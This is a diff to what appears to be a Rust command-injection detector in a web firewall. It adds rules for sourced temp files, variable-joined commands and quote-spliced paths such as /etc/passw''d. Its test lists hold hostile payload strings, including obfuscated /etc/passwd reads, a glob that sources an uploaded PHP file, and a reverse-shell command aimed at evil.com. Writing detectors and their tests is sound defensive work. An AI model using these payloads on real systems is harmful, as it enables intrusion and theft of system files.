@@ -21,8 +21,8 @@
 //! Where things are: the shell's reading of a value into words and operators in
 //! `cmdi/lex.rs`, program names in `cmdi/words.rs`, globs in `cmdi/glob.rs`, shapes
 //! judged on the whole value (brace expansions, fork bombs, Shellshock) in
-//! `cmdi/shapes.rs`, `cmd.exe` and SSI in `cmdi/windows.rs`; this file decides where a
-//! command starts.
+//! `cmdi/shapes.rs`, a name joined from variables in `cmdi/vars.rs`, `cmd.exe` and SSI
+//! in `cmdi/windows.rs`; this file decides where a command starts.
 
 mod code;
 mod gadget;
@@ -32,6 +32,7 @@ mod lex;
 mod mail;
 mod ognl;
 mod shapes;
+mod vars;
 mod windows;
 mod words;
 
@@ -103,7 +104,7 @@ fn detect_prefix(value: &[u8], p: Profile) -> Option<CmdiMatch> {
         } else {
             first
         };
-        let batch = first == b"if" || first == b"for";
+        let batch = first == b"if" || first == b"for" || first == b".";
         if !(batch
             || words::strong(first)
             || words::weak(first)
@@ -136,6 +137,12 @@ fn detect_prefix(value: &[u8], p: Profile) -> Option<CmdiMatch> {
     if let Some(m) = whole_shapes(v) {
         return Some(m);
     }
+    if let Some(program) = vars::joined(v) {
+        return hit(&format!("variables {program}"));
+    }
+    if sourced_file(v) {
+        return hit(". (source)");
+    }
     // Bash's network redirections (`exec 5<>/dev/tcp/10.0.0.1/80`, `>& /dev/tcp/...`):
     // a reverse shell whatever the program.
     for dev in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
@@ -156,6 +163,20 @@ fn detect_prefix(value: &[u8], p: Profile) -> Option<CmdiMatch> {
     })
 }
 
+/// `. /tmp/php??????`, `;. /???/????????[@-[]`: the `.` builtin, written bare where a
+/// command starts, sourcing an absolute path (a PHP upload left in the temporary
+/// directory, found by a glob).
+fn sourced_file(v: &[u8]) -> bool {
+    memchr::memmem::find_iter(v, b". /").any(|i| {
+        let before = v[..i].iter().rev().find(|c| !matches!(c, b' ' | b'\t'));
+        let path = &v[i + 3..];
+        before.is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`' | b'('))
+            && path
+                .first()
+                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'?')
+    })
+}
+
 /// The command a value's words and operators start, if any.
 fn command_line(toks: &[Tok]) -> Option<CmdiMatch> {
     // The value may itself be the start of the command (`cat /etc/passwd`), or follow
@@ -169,6 +190,14 @@ fn command_line(toks: &[Tok]) -> Option<CmdiMatch> {
                 at_start = false;
             }
             Tok::Word(w) => {
+                // The shell's reserved words before a command, glued to the operator as
+                // payloads write them (`;do echo $l;done`, `;then cat ...`; a script in
+                // documentation writes `; do echo`): the command is the next word.
+                if matches!(after_op, Some(Op::Seq { glued: true }))
+                    && matches!(w.text.as_slice(), b"do" | b"then" | b"else")
+                {
+                    continue;
+                }
                 if at_start || after_op.is_some() {
                     if let Some(name) = variable(&w.text) {
                         // `$c` as the command: what the value assigned it (`c=cat&&$c
@@ -212,7 +241,12 @@ fn command_line(toks: &[Tok]) -> Option<CmdiMatch> {
                         || (w.spliced
                             && w.text.len() >= 3
                             && !w.text.contains(&b'/')
-                            && words::strong(&w.text)))
+                            && words::strong(&w.text))
+                        // `more /etc/passw''d`, `awk '1' /etc/passw\d`: an argument, an
+                        // absolute path spliced the same way, which only a shell reads
+                        // as one path.
+                        || ((words::strong(&w.text) || words::weak(&w.text))
+                            && spliced_path(&toks[i + 1..])))
                 {
                     // `cat /etc/passwd`, `/bin/ls -al`, `id;`: a whole command line as the
                     // value.
@@ -407,6 +441,18 @@ fn glob_word(v: &[u8]) -> Option<&'static str> {
 }
 
 /// An argument only a command line has: an option, a path, a URL, an address.
+/// Is one of a command's first arguments an absolute path with quotes or a backslash
+/// inside its name (`/etc/passw''d`, `/etc/passw\d`)?
+fn spliced_path(args: &[Tok]) -> bool {
+    args.iter()
+        .take(4)
+        .map_while(|t| match t {
+            Tok::Word(w) => Some(w),
+            Tok::Op(_) => None,
+        })
+        .any(|a| a.spliced && a.text.starts_with(b"/"))
+}
+
 fn shellish_arg(t: &Tok) -> bool {
     let Tok::Word(w) = t else { return true };
     shellish_word(&w.text)
@@ -469,6 +515,14 @@ mod tests {
             "& choice /t 5 /d y",
             ";ss -tulpn",
             "; java -jar reverse.jar evil.com 4444",
+            // PureWaf's: reserved words before a command, the `.` builtin, more readers
+            "while read line;do echo $line;done</etc/passwd",
+            "more /etc/passw''d",
+            "awk '1' /etc/passw\\d",
+            "sort${IFS}/etc/passw''d",
+            ". /???/????????[@-[]",
+            ";. /tmp/php??????",
+            "shuf /etc/passwd",
         ]);
         prose(&[
             "it costs $'5 or $'\\x35",
@@ -476,6 +530,16 @@ mod tests {
             "a choice; another choice",
             "1;waitfor delay '0:0:5'--",
             "1;WAITFOR\rDELAY\t'0:0:5'--",
+            "Do this. Then that. Else nothing.",
+            "see p. /docs/intro",
+            "'; '.</li>",
+            "// callback runs in the server's MakeCallback().</span>",
+            "for i in {0..10000}; do echo; done",
+            "</dd></dl><dt>java</dt><dd><a href=x>y</a>",
+            "(column,)",
+            "find the file O''Brien sent",
+            "type C:\\Users\\me\\notes.txt",
+            "- `PR #908 <https://github.com/pika/pika/pull/908>`_",
         ]);
     }
 
